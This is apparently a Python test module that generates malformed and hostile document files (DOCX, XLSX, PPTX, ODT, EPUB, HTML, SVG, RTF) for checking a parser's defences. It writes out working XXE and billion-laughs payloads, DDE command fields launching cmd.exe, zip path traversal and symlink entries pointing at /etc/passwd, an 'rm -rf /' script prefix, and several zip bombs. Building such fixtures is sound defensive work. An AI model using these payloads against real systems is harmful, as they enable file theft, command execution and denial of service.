"""Word, Excel, PowerPoint, OpenDocument and EPUB: the zip, the XML in it, and where it leads."""

# ruff: noqa: E501  # the bytes of a format are read best on one line

import binascii
import io
import struct
import warnings
import zipfile
from pathlib import Path

from tests.hostile.good import MARK, good
from tests.hostile.made import MIB, Made, compound, parts_of, zipped

XML_PARTS = {
    "docx": ("word/document.xml", "[Content_Types].xml", "_rels/.rels", "word/styles.xml"),
    "xlsx": ("xl/worksheets/sheet1.xml", "[Content_Types].xml", "xl/workbook.xml"),
    "pptx": ("ppt/slides/slide1.xml", "[Content_Types].xml", "ppt/_rels/presentation.xml.rels"),
    "odt": ("content.xml", "META-INF/manifest.xml"),
    "ods": ("content.xml", "meta.xml"),
    "odp": ("content.xml", "styles.xml"),
    "epub": ("OEBPS/a.xhtml", "META-INF/container.xml", "OEBPS/book.opf"),
}


def xml_attacks(canary: Path, url: str) -> Made:
    """Entities that read files, ask the network or multiply, in every part that is XML."""
    laughs = "<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)
    )
    doctypes = {
        "file": f"<!DOCTYPE r [<!ENTITY x SYSTEM '{canary.as_uri()}'>]>",
        "http": f"<!DOCTYPE r [<!ENTITY x SYSTEM '{url}/entity'>]>",
        "laughs": f"<!DOCTYPE r [{laughs}<!ENTITY x '&a11;'>]>",
        "dtd": f"<!DOCTYPE r SYSTEM '{url}/dtd'>",
        "parameter": f"<!DOCTYPE r [<!ENTITY % p SYSTEM '{url}/p'> %p; <!ENTITY x 'y'>]>",
    }
    for suffix, parts in XML_PARTS.items():
        for number, part in enumerate(parts):
            for kind, doctype in doctypes.items():
                if number == 0 or kind in {"file", "laughs"}:
                    whole = parts_of(good()[suffix])
                    whole[part] = with_doctype(whole[part], doctype)
                    yield f"{kind}-{number}.{suffix}", zipped(whole)
    for kind, doctype in doctypes.items():
        page = with_doctype(good()["html"], doctype)
        yield f"{kind}.html", page
        yield f"{kind}.xhtml", b"<?xml version='1.0'?>" + page
        yield f"{kind}.svg", f"{doctype}<svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>".encode()
        yield f"{kind}.xml", f"<?xml version='1.0'?>{doctype}<r>&x;</r>".encode()
    whole = parts_of(good()["docx"])
    text = with_doctype(whole["word/document.xml"], doctypes["file"]).decode().partition("?>")[2]
    for encoding in ("utf-16", "utf-7", "cp037"):
        whole["word/document.xml"] = f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(
            encoding
        )
        yield f"file-{encoding}.docx", zipped(whole)


def with_doctype(part: bytes, doctype: str) -> bytes:
    """Return XML with a document type before its root, its marked phrase the entity `x`."""
    head, _, rest = part.rpartition(b"?>") if part.startswith(b"<?xml") else (b"", b"", part)
    declaration = head + b"?>" if head else b""
    if "&" not in doctype and "ENTITY x" not in doctype:
        return declaration + doctype.encode() + rest
    return declaration + doctype.encode() + rest.replace(MARK.encode(), b"&x;")


def outward(canary: Path, url: str) -> Made:
    """Links, templates, fields and scripts that lead out of the file."""
    kinds = ("attachedTemplate", "oleObject", "image", "hyperlink", "frame", "subDocument")
    for place in (url, canary.as_uri(), str(canary), f"\\\\127.0.0.1\\share\\{canary.name}"):
        links = "".join(
            f'<Relationship Id="out{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/{kind}" Target="{place}" TargetMode="External"/>'
            for n, kind in enumerate(kinds)
        ).encode()
        tag = binascii.crc32(place.encode()) % 1000
        for suffix, rels in (
            ("docx", "word/_rels/document.xml.rels"),
            ("xlsx", "xl/_rels/workbook.xml.rels"),
            ("pptx", "ppt/slides/_rels/slide1.xml.rels"),
        ):
            whole = parts_of(good()[suffix])
            whole[rels] = whole[rels].replace(b"</Relationships>", links + b"</Relationships>")
            if suffix == "docx":
                drawn = (
                    b'<w:p xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r='
                    b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:r>'
                    b'<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
                    b'wordprocessingDrawing"><wp:docPr id="1" name="x" descr="x"/><a:graphic>'
                    b'<a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/'
                    b'2006/picture"><pic:blipFill><a:blip r:link="out2"/></pic:blipFill></pic:pic>'
                    b"</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
                )
                body = whole["word/document.xml"]
                whole["word/document.xml"] = body.replace(b"<w:body>", b"<w:body>" + drawn)
            yield f"links-{tag}.{suffix}", zipped(whole)
    whole = parts_of(good()["docx"])
    field = b'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
    run = b'<w:fldSimple w:instr="%b"><w:r><w:t>x</w:t></w:r></w:fldSimple>' % field.replace(
        b'"', b"&quot;"
    )
    body = whole["word/document.xml"]
    whole["word/document.xml"] = body.replace(b"<w:body>", b"<w:body><w:p>" + run + b"</w:p>")
    yield "dde.docx", zipped(whole)
    for suffix, name in (("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt")):
        whole = parts_of(good()[suffix]) | {f"{name}/vbaProject.bin": compound(("VBA", b"x"))}
        yield f"macro.{suffix[:-1]}m", zipped(whole)
        whole[f"{name}/embeddings/oleObject1.bin"] = compound(("Package", b"MZ" * 500))
        yield f"object.{suffix}", zipped(whole)
    where = canary.as_uri()
    yield (
        "script.html",
        (
            f"<html><head><base href='{url}'><meta http-equiv=refresh content='0;url={url}'>"
            f"<link rel=stylesheet href='{url}/a.css'><script src='{url}/a.js'></script>"
            f"<script>fetch('{url}')</script></head><body onload=alert(1)><img src='{where}'>"
            f"<img src='{url}/a.png'><iframe src='{where}'></iframe><object data='{where}'></object>"
            f"<a href='javascript:alert(1)'>x</a><a href='{where}'>y</a><p>{MARK}</p></body></html>"
        ).encode(),
    )
    yield (
        "script.svg",
        (
            f"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><image href='{where}'/>"
            f"<image href='{url}/a.png'/></svg>"
        ).encode(),
    )
    yield "script.md", f"[x](javascript:alert(1)) ![a]({url}/a.png) <img src='{where}'>".encode()
    out = [rf'INCLUDETEXT "{canary}"', rf'INCLUDEPICTURE "{url}/a.png"', rf'LINK "{url}"']
    fields = "".join(rf"{{\field{{\*\fldinst {text}}}{{\fldrslt x}}}}" for text in out)
    yield "fields.rtf", (rf"{{\rtf1 {{\*\template {url}/t.dot}}{fields} {MARK}}}").encode()


def zip_tricks() -> Made:
    """Names that climb, links, doubles, broken sums, wrong headers, files that are two things."""
    base = parts_of(good()["docx"])
    names = {
        "climbs": "../../../../../../tmp/escaped-by-zip",
        "absolute": "/tmp/escaped-by-zip",
        "windows": "..\\..\\escaped-by-zip",
        "drive": "C:\\escaped-by-zip",
        "nul": "word/a\0b.xml",
        "long": "a/" * 5000,
        "rtl": "word/\u202egnp.exe",
    }
    for kind, name in names.items():
        yield f"{kind}.docx", zipped(base | {name: b"out"})
    file = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(file, "w") as archive:
        warnings.simplefilter("ignore")  # about the double name, which is meant
        for name, data in [*base.items(), ("word/document.xml", b"<a/>")]:
            archive.writestr(zipfile.ZipInfo(name), data)
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    yield "double-and-link.docx", file.getvalue()
    stored = zipped(base, zipfile.ZIP_STORED)
    for suffix in ("docx", "xlsx", "pptx", "odt", "ods", "epub"):
        plain = zipped(parts_of(good()[suffix]), zipfile.ZIP_STORED)
        yield f"bad-sum.{suffix}", plain.replace(MARK.encode(), MARK.upper().encode())
        lied = bytearray(good()[suffix])
        lied[30:34] = b"liar"  # the name in the first local header
        yield f"local-header.{suffix}", bytes(lied)
    central = stored.rfind(b"PK\x05\x06")
    yield "comment.docx", stored[:-2] + struct.pack("<H", 65000) + b"PK" * 32500
    yield "no-directory.docx", stored[:central]
    yield "two-ends.docx", stored + stored[central:]
    yield "overlap.docx", _overlapping(base)
    for kind, prefix in (
        ("gif", b"GIF89a\1\0\1\0\0\0\0;"), ("pdf", b"%PDF-1.7\n"), ("exe", b"MZ" + b"\0" * 100),
        ("script", b"#!/bin/sh\nrm -rf /\n"), ("jpeg", good()["jpg"]), ("html", good()["html"]),
    ):  # fmt: skip
        yield f"zip-behind-{kind}.docx", prefix + good()["docx"]
    yield "pdf-and-zip.pdf", good()["pdf"] + good()["docx"]
    yield "html-and-pdf.html", b"<html><!-- " + good()["pdf"] + b" --></html>"
    yield "nested.docx", zipped(base | {"word/embeddings/a.docx": good()["docx"] * 50})


def _overlapping(base: dict[str, bytes]) -> bytes:
    """Return a zip whose many entries are all the same bytes.

    Source of the idea: D. Fifield, A better zip bomb, WOOT 2019.
    """
    data = zipped(base | {"word/media/big.bin": b"\0" * 10 * MIB})
    start = data.find(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    last = data.rfind(b"PK\x01\x02", start, end)
    again = b"".join(
        data[last:end].replace(b"big.bin", f"b{n:02}.bin".encode()) for n in range(10, 99)
    )
    directory = data[start:end] + again
    count = len(base) + 1 + 89
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(directory), start, 0)
    return data[:start] + directory + tail


def bombs() -> Made:
    """Little that unpacks to much."""
    base = parts_of(good()["docx"])
    spaces = b"<x>" + b" " * (41 * MIB) + b"</x>"
    yield "spaces.docx", zipped(base | {"word/document.xml": spaces})
    yield "thousandfold.docx", zipped(base | {"word/media/a.bin": b"\0" * (350 * MIB)})
    yield "thousandfold.odt", zipped(parts_of(good()["odt"]) | {"a.bin": b"\0" * (350 * MIB)})
    yield "many.docx", zipped(base | {f"word/media/{n}": b"" for n in range(6_000)})
    matter = zipfile.ZIP_DEFLATED
    inner = zipped({"0": b"\0" * (50 * MIB)}, matter)
    for _ in range(4):
        inner = zipped({str(n): inner for n in range(8)}, matter)
    yield "nested.docx", zipped(base | {"word/embeddings/a.zip": inner})
    yield "nested.zip", inner
    deep = b"<w:p>" * 100_000
    for suffix in ("docx", "pptx", "xlsx", "odt", "epub"):
        part = XML_PARTS[suffix][0]
        yield f"deep.{suffix}", zipped(parts_of(good()[suffix]) | {part: deep})
    body = base["word/document.xml"]
    many = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 10_000
    yield (
        "paragraphs.docx",
        zipped(base | {"word/document.xml": body.replace(b"<w:body>", b"<w:body>" + many)}),
    )
    nested = b"<w:tbl><w:tr><w:tc>" * 70 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 70
    yield (
        "tables.docx",
        zipped(base | {"word/document.xml": body.replace(b"<w:body>", b"<w:body>" + nested)}),
    )
    odt = parts_of(good()["odt"])
    spans = (
        b"<table:table xmlns:table='urn:oasis:names:tc:opendocument:xmlns:table:1.0'>"
        b"<table:table-row table:number-rows-repeated='1048576'><table:table-cell "
        b"table:number-columns-repeated='16384'/></table:table-row></table:table>"
    )
    content = odt["content.xml"].replace(b"</office:text>", spans + b"</office:text>")
    yield "repeated.odt", zipped(odt | {"content.xml": content})
    yield (
        "attributes.docx",
        zipped(
            base
            | {"word/document.xml": b"<a " + b" ".join(b"b%d=''" % n for n in range(10**5)) + b"/>"}
        ),
    )


def sheets() -> Made:
    """Sheets that claim to be endless."""
    base = parts_of(good()["xlsx"])
    sheet = base["xl/worksheets/sheet1.xml"]
    name = "xl/worksheets/sheet1.xml"
    head, tail = sheet.partition(b"<sheetData>")[0], b"</sheetData></worksheet>"
    far = b"<row r='1'><c r='A1'><v>1</v></c></row><row r='1048576'><c r='XFD1048576'><v>2</v></c></row>"
    yield "corner.xlsx", zipped(base | {name: head + b"<sheetData>" + far + tail})
    back = b"<row r='9'><c r='ZZZZZZ9'><v>1</v></c></row><row r='-1'><c r='0'><v>2</v></c></row>"
    yield "nonsense.xlsx", zipped(base | {name: head + b"<sheetData>" + back + tail})
    shared = b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><si><t>%b</t></si></sst>"
    cells = b"".join(
        b"<row r='%d'>%b</row>"
        % (row, b"".join(b"<c r='%c%d' t='s'><v>0</v></c>" % (65 + at, row) for at in range(20)))
        for row in range(1, 401)
    )
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    types = base["[Content_Types].xml"].replace(
        b"</Types>", b"<Override PartName='/xl/sharedStrings.xml' ContentType='%b'/></Types>" % kind
    )
    yield (
        "shared.xlsx",
        zipped(
            base
            | {
                "[Content_Types].xml": types,
                "xl/sharedStrings.xml": shared % (b"x" * 100_000),
                name: head + b"<sheetData>" + cells + tail,
            }
        ),
    )
    formula = b"<row r='1'><c r='A1'><f>cmd|'/c calc'!A0</f><v>1</v></c></row>"
    yield "dde.xlsx", zipped(base | {name: head + b"<sheetData>" + formula + tail})
    cycle = base["xl/workbook.xml"].replace(b"<sheets>", b"<sheets>" * 200)
    yield "sheets.xlsx", zipped(base | {"xl/workbook.xml": cycle})
    ods = parts_of(good()["ods"])
    for kind, old, new in (
        ("rows", b"<table:table-row", b"<table:table-row table:number-rows-repeated='1048576'"),
        (
            "columns",
            b"<table:table-cell",
            b"<table:table-cell table:number-columns-repeated='16384'",
        ),
    ):
        yield f"{kind}.ods", zipped(ods | {"content.xml": ods["content.xml"].replace(old, new)})
    both = ods["content.xml"].replace(
        b"<table:table-row", b"<table:table-row table:number-rows-repeated='1048576'"
    )
    both = both.replace(
        b"<table:table-cell", b"<table:table-cell table:number-columns-repeated='16384'"
    )
    yield "both.ods", zipped(ods | {"content.xml": both})
    rows = b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\xff" * 3000
    yield "noise.xls", compound(("Workbook", rows))
